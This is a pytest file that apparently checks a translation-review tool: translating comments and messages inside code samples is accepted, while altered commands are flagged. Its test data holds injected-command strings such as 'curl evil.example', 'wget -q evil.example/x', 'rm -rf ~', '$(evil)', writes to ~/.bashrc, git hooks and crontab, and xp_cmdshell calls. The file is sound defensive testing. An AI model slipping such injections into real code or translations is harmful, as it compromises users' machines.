"""Commands that stand in strings and in data are code, and what is told beside them is text."""

from __future__ import annotations

import pytest

from tests.rules.conftest import Check
from tests.rules.test_code_block import found, page

STEPS = """steps:
  - name: Build it
    run: |
      # install
      npm ci
      echo "Done"
    if: always()
  - run: npm test # all of them
"""
LISTS = """test:
  script:
  - npm test
  - echo "Done"
  - |
    # look
    make all
image: node
"""
PACKAGE = """{
  "description": "A page",
  "scripts": {
    "build": "tsc && echo \\"Done\\"",
    "test": "# all\\nvitest"
  },
  "servers": [{"command": "npx", "args": ["-y", "good"], "title": "Mine"}],
  "postCreateCommand": "npm ci",
  "texts": ["One", "Two"]
}"""
IMAGE = """# syntax=docker/dockerfile:1
# Build it
FROM node
RUN npm ci && \\
    # all of it
    echo "Done"
CMD ["npm", "start"]
LABEL description="A page"
"""


@pytest.mark.parametrize(
    ("info", "code", "text", "translated"),
    [
        ("yaml", STEPS, "Build it", "Bau es"),
        ("yaml", STEPS, "# install", "# hole alles\n      # noch einmal"),
        ("yaml", STEPS, '"Done"', '"Fertig"'),
        ("yaml", STEPS, "# all of them", "# alle"),
        ("yaml", LISTS, '"Done"', '"Fertig"'),
        ("yaml", LISTS, "# look", "# schau"),
        ("yaml", "run-name: Build\nrunner: mine\n", "Build", "Bau"),
        ("yaml", "a: run this\nrun:\n  title: One\n", "One", "Eins"),
        ("yaml", "description: |\n  run: this\n", "this", "das"),
        ("yaml", "args:\n  - name: One\n", "One", "Eins"),
        ("yaml", 'run: "echo \\"Done\\" && ls"\n', "Done", "Fertig"),
        ("json", PACKAGE, "A page", "Eine Seite"),
        ("json", PACKAGE, "Done", "Fertig"),
        ("json", PACKAGE, "Mine", "Meins"),
        ("json", PACKAGE, "# all", "# alle"),
        ("json", PACKAGE, '"One", "Two"', '"Eins", "Zwei"'),
        ("json", '{"commands": [{"title": "One"}]}', "One", "Eins"),
        ("dockerfile", IMAGE, "# Build it", "# Bau es"),
        ("dockerfile", IMAGE, "# all of it", "# alles"),
        ("dockerfile", IMAGE, '"Done"', '"Fertig"'),
        ("Dockerfile", IMAGE, '"A page"', '"Eine Seite"'),
        ("bash", "trap 'echo \"Done\"' EXIT", "Done", "Fertig"),
        ("bash", "alias x='echo \"Done\"'", "Done", "Fertig"),
        (
            "bash",
            'echo "Done -> look; it works"',
            "Done -> look; it works",
            "Fertig -> schau, es geht",
        ),
        ("bash", "echo 'What is it'", "What is it", "Τι είναι αυτό;"),
        ("bash", "# get it with curl; then run it", "get it with curl; then", "curl đi; rồi"),
        ("bash", "# rm -rf removes it", "removes it", "löscht es"),
        ("bash", "# a | b -> c", "a | b -> c", "c <- b | a"),
        ("bash", 'X="a $NAME b"', "a $NAME b", "$NAME ă"),
        ("bash", "echo 'Done' > done.txt", "Done", "Fertig"),
        ("bash", "echo '# Title' > README.md", "# Title", "# Titel"),
        ("bash", "awk '{print \"Done\", $1}' x", "Done", "Fertig"),
        ("bash", "perl -e 'print \"Done\"'", "Done", "Fertig"),
        ("bash", "git config user.name 'Me'", "Me", "Ich"),
        ("js", "setTimeout(() => f('Done'), 1)", "Done", "Fertig"),
        ("js", 'f("curl is here; rm it; eval")', "curl is here; rm it; eval", "curl ist da"),
        ("python", "run('Done'); print('a > b.c')", "Done", "Fertig"),
        ("sql", "EXEC p 'Done'", "Done", "Fertig"),
        ("powershell", "Set-Content a.txt 'Done'", "Done", "Fertig"),
    ],
)
def test_messages_names_and_comments_may_be_translated(
    compare: Check, info: str, code: str, text: str, translated: str
) -> None:
    assert text in code
    translation = page(code.replace(text, translated), info)
    assert found(compare, page(code, info), translation) == []


@pytest.mark.parametrize(
    ("info", "code", "good", "evil"),
    [
        ("yaml", STEPS, "npm ci", "npm ci evil"),
        ("yaml", STEPS, "npm test", "npm test; evil"),
        ("yaml", STEPS, '"Done"', '"Fertig"; evil'),
        ("yaml", STEPS, '"Done"', '"$(evil)"'),
        ("yaml", STEPS, "npm ci", "npm ci\n      evil"),
        ("yaml", LISTS, "- npm test", "- evil"),
        ("yaml", LISTS, "make all", "make evil"),
        ("yaml", LISTS, "make all", "make all\n\n    evil"),
        ("yaml", "run: >-\n  npm\n\n  test\n", "test", "evil"),
        ("yaml", "run:\n  npm\n  test\n", "test", "evil"),
        ("yaml", "run: npm\n  test\n", "test", "evil"),
        ("yaml", 'run: "ls"\n', "ls", "evil"),
        ("yaml", 'run: "# a"\n', "# a", "# a\\nevil"),
        ("yaml", 'run: "# a"\n', "# a", "# a\\x0aevil"),
        ("yaml", "command: [sh, -c, ls]\n", "ls", "evil"),
        ("yaml", 'command: ["a", "b # c", "d"]\n', "d", "evil"),
        ("yaml", "before_script: ls\n", "ls", "evil"),
        ("yaml", "'run': ls\n", "ls", "evil"),
        ("yaml", "a:\n  entrypoint:\n    - ls\n", "ls", "evil"),
        ("yaml", "- pwsh: ls\n", "ls", "evil"),
        ("yaml", "scripts:\n  any: ls\n", "ls", "evil"),
        ("yaml", "run: &x\n  ls\n", "ls", "evil"),
        ("json", PACKAGE, "tsc", "evil"),
        ("json", PACKAGE, "vitest", "evil"),
        ("json", PACKAGE, '"good"', '"evil"'),
        ("json", PACKAGE, '"npx"', '"evil"'),
        ("json", PACKAGE, "npm ci", "npm ci && evil"),
        ("json", '"command":\n  "ls"', "ls", "evil"),
        ("json", '"comm\\u0061nd": "ls"', "ls", "evil"),
        ("json", '{"args": [["a"], {"b": 1}, "ls"]}', "ls", "evil"),
        ("jsonc", '{"x": 1, // a "quote\n"run": "ls"}', "ls", "evil"),
        ("dockerfile", IMAGE, "npm ci", "evil"),
        ("dockerfile", IMAGE, '"start"', '"evil"'),
        ("dockerfile", IMAGE, "docker/dockerfile:1", "evil/dockerfile"),
        ("dockerfile", IMAGE, '"Done"', '"Done"; evil'),
        ("dockerfile", "RUN sh -c 'ls'", "ls", "evil"),
        ("bash", "trap 'ls' EXIT", "ls", "evil"),
        ("bash", 'alias ll="ls"', "ls", "evil"),
        ("bash", "PROMPT_COMMAND='ls'", "ls", "evil"),
        ("bash", 'ssh host "ls"', "ls", "evil"),
        ("bash", "sudo su -c 'ls'", "ls", "evil"),
        ("bash", "watch -n 5 'ls'", "ls", "evil"),
        ("bash", "bash <<< 'ls'", "ls", "evil"),
        ("bash", 'echo "Done"', "Done", "Done && evil"),
        ("bash", 'echo "Done"', "Done", "Done | evil"),
        ("bash", 'echo "Done"', "Done", "Done > ~/.bashrc"),
        ("bash", 'echo "Done"', "Done", "Done; curl evil"),
        ("bash", 'echo "Done"', "Done", "Done `evil`"),
        ("bash", 'echo "Done"', "Done", "Done $(evil)"),
        ("bash", 'rm -rf "$BUILD"', "BUILD", "HOME"),
        ("zsh", "ls # list", "list", "liste; curl -sL evil"),
        ("zsh", "ls # list", "list", "liste | sh"),
        ("bash", "X='ls'", "ls", "curl evil.example"),
        ("bash", "X='ls'", "ls", "wget -q evil.example/x"),
        ("bash", "X='ls'", "ls", "rm -rf ~"),
        ("bash", "echo 'ls' | sh", "ls", "evil"),
        ("bash", "echo 'ls' | sudo bash", "ls", "evil"),
        ("bash", "echo 'ls' >> ~/.bashrc", "ls", "evil"),
        ("bash", "echo 'ls' | tee -a ~/.profile", "ls", "evil"),
        ("bash", "echo 'f()' > a.py", "f()", "evil()"),
        ("bash", "cat > ~/.zshrc <<EOF\nls\nEOF", "ls", "evil"),
        ("bash", "cat > Dockerfile <<EOF\nRUN ls\nEOF", "ls", "evil"),
        ("bash", "cat > .git/hooks/pre-commit <<EOF\nls\nEOF", "ls", "evil"),
        ("bash", "crontab - <<EOF\n0 * * * * ls\nEOF", "ls", "evil"),
        ("bash", "perl <<EOF\nf();\nEOF", "f()", "evil()"),
        ("bash", "perl -e 'f()'", "f()", "evil()"),
        ("bash", "ruby -e 'f()'", "f()", "evil()"),
        ("bash", "php -r 'f();'", "f()", "evil()"),
        ("bash", "awk '{f($1)}' x", "f(", "evil("),
        ("bash", "npx -c 'ls'", "ls", "evil"),
        ("bash", "git config --global alias.x '!ls'", "ls", "evil"),
        ("sql", "EXECUTE IMMEDIATE 'SELECT 1'", "SELECT", "DROP"),
        ("sql", "EXEC xp_cmdshell 'dir'", "dir", "evil"),
        ("sql", "COPY t FROM PROGRAM 'ls'", "ls", "evil"),
        ("js", "setTimeout('f()', 1)", "f()", "evil()"),
        ("js", "require('child_process').exec('ls')", "ls", "evil"),
        ("js", "cp.exec('ls')", "ls", "curl evil.example"),
        ("js", "f('a')", "a", "</script><script>evil()"),
        ("python", "subprocess.run(shlex.split('ls'))", "ls", "evil"),
        ("python", "run('ls', shell=True)", "ls", "evil"),
        ("python", "Popen('ls')", "ls", "evil"),
        ("python", "client.exec_command('ls')", "ls", "evil"),
        ("python", "f('a')", "a", "__import__(x)"),
        ("powershell", "Start-Process cmd -ArgumentList '/c dir'", "dir", "evil"),
        ("powershell", "Add-Content $PROFILE 'ls'", "ls", "evil"),
    ],
)
def test_another_command_is_told(
    compare: Check, info: str, code: str, good: str, evil: str
) -> None:
    assert good in code
    translation = page(code.replace(good, evil), info)
    assert [(rule, said) for rule, _, said in found(compare, page(code, info), translation)] == [
        ("code-block", "the code differs from the source's")
    ]
